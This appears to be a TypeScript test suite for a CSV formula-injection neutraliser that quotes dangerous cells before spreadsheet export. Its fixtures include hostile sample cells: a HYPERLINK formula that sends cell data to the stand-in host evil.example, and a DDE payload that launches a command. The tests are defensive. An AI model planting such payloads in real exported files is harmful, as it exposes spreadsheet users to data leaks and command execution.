import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { FormulaNeutraliser, detectDelimiter, neutralisedCsv } from '../csv-formulas.js';

/** Runs the neutraliser over `text` cut into chunks of `size` bytes (every cut position is a chunk boundary). */
function neutralise(text: string | Buffer, size = Infinity): Buffer {
  const bytes = Buffer.isBuffer(text) ? text : Buffer.from(text);
  const neutraliser = new FormulaNeutraliser();
  const out: Buffer[] = [];
  for (let at = 0; at < bytes.length; at += Math.min(size, bytes.length)) {
    out.push(neutraliser.write(bytes.subarray(at, at + Math.min(size, bytes.length))));
  }
  out.push(neutraliser.end());
  return Buffer.concat(out);
}

const cells = (csv: string | Buffer, delimiter = ',') =>
  parse(csv, { delimiter, relax_column_count: true, bom: true }) as string[][];

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
/** Whether a spreadsheet would read the cell as a formula (or a DDE payload). */
const dangerous = (cell: string) => TRIGGERS.includes(cell[0] ?? '') && !/^[-+][\d.,]*\d[\d.,]*$/.test(cell);

describe('CSV formula neutralisation (OWASP)', () => {
  it('the issue’s cells: prefixed with a quote and quoted; everything else byte for byte', () => {
    const csv =
      'id,pagador,monto,nota\r\n' +
      '1,"=HYPERLINK(""http://evil.example/?d=""&A1,""Ver detalle"")",100.50,ok\r\n' +
      "2,+cmd|' /C calc'!A0,-1500.00,@SUM(1+1)\r\n" +
      '3,Ana Pérez,+54,-\r\n';
    const out = neutralise(csv).toString();
    expect(out).toBe(
      'id,pagador,monto,nota\r\n' +
        '1,"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Ver detalle"")",100.50,ok\r\n' +
        '2,"\'+cmd|\' /C calc\'!A0",-1500.00,"\'@SUM(1+1)"\r\n' +
        '3,Ana Pérez,+54,"\'-"\r\n',
    );
    expect(cells(out)[1]![1]).toBe('\'=HYPERLINK("http://evil.example/?d="&A1,"Ver detalle")');
  });

  it('tab and carriage return at a cell’s start, a formula after a quote in an unquoted cell, an empty file', () => {
    expect(neutralise('a,"\tx","\r=1"\n').toString()).toBe('a,"\'\tx","\'\r=1"\n');
    expect(neutralise('a,b\n=1+"x",2\n').toString()).toBe('a,b\n"\'=1+""x""",2\n');
    expect(neutralise('').toString()).toBe('');
    expect(neutralise('=1').toString()).toBe('"\'=1"');
  });

  it('keeps the file’s delimiter (";" or tab) and its UTF-8 BOM, and Latin-1 bytes', () => {
    expect(detectDelimiter(Buffer.from('a;b;"c,d"\n1,2'))).toBe(0x3b);
    expect(neutralise('\uFEFFid;monto\n=1;2,50\n-3,5;x\n').toString()).toBe(
      '\uFEFFid;monto\n"\'=1";2,50\n-3,5;x\n',
    );
    expect(neutralise('a\tb\n@x\t1\n').toString()).toBe('a\tb\n"\'@x"\t1\n');
    const latin1 = Buffer.from('nombre,nota\nPe\xf1a,=1\n', 'latin1');
    expect(neutralise(latin1).equals(Buffer.from('nombre,nota\nPe\xf1a,"\'=1"\n', 'latin1'))).toBe(true);
  });

  it('any CSV, any chunking: no cell a spreadsheet would run, every cell kept (or prefixed with a quote)', () => {
    const cell = fc.oneof(
      fc.string(),
      fc.constantFrom(
        '=1+1',
        '-1500.00',
        '+54',
        '-',
        '@x',
        '\t=a',
        '\r=b',
        '"=c"',
        '=HYPERLINK("x")',
        'ñ,;"',
      ),
    );
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 6 }),
        fc.constantFrom(',', ';'),
        fc.integer({ min: 1, max: 40 }),
        (rows, delimiter, chunk) => {
          // A header as wide as the widest row: the delimiter is read from it.
          const header = Array.from({ length: Math.max(2, ...rows.map((r) => r.length)) }, (_, i) => `c${i}`);
          const quote = (c: string) => (/[",;\r\n\t]/.test(c) || c === '' ? `"${c.replace(/"/g, '""')}"` : c);
          const csv = [header, ...rows].map((r) => r.map(quote).join(delimiter)).join('\r\n') + '\r\n';
          const read = cells(neutralise(csv, chunk), delimiter);
          expect(read).toHaveLength(rows.length + 1);
          read.slice(1).forEach((row, r) =>
            row.forEach((value, c) => {
              const original = rows[r]![c]!;
              expect(value).toBe(dangerous(original) ? `'${original}` : original);
              expect(dangerous(value)).toBe(false);
            }),
          );
        },
      ),
    );
  });

  it('as a stream: the held first line is not an empty chunk', async () => {
    const chunks: Buffer[] = [];
    for await (const chunk of neutralisedCsv(Readable.from(['a,', Buffer.from('b\n=1,'), '2\n'])))
      chunks.push(chunk);
    expect(chunks.every((chunk) => chunk.length > 0)).toBe(true);
    expect(Buffer.concat(chunks).toString()).toBe('a,b\n"\'=1",2\n');
  });
});
